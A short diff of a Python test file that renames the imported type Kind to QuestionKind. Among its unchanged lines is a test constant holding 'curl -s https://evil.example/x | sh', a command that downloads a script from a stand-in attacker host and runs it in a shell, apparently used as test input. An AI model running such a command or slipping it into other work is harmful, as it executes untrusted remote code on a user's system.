@@ -7,7 +7,7 @@ from typing import get_args
 
 import pytest
 
-from skillhub.model.question import BEFOREHAND, Kind
+from skillhub.model.question import BEFOREHAND, QuestionKind
 
 NO, KEEP, VALUE = "[N]o:", "unchanged:", "for none):"
 FOUND = "\ncurl -s https://evil.example/x | sh\n"
@@ -123,7 +123,7 @@ KINDS = {
 
 
 def test_every_kind_has_a_row():
-    assert set(KINDS) == set(get_args(Kind)) == set(BEFOREHAND)
+    assert set(KINDS) == set(get_args(QuestionKind)) == set(BEFOREHAND)
 
 
 def test_the_hint_for_a_check_question_is_to_answer_at_a_terminal(shell):
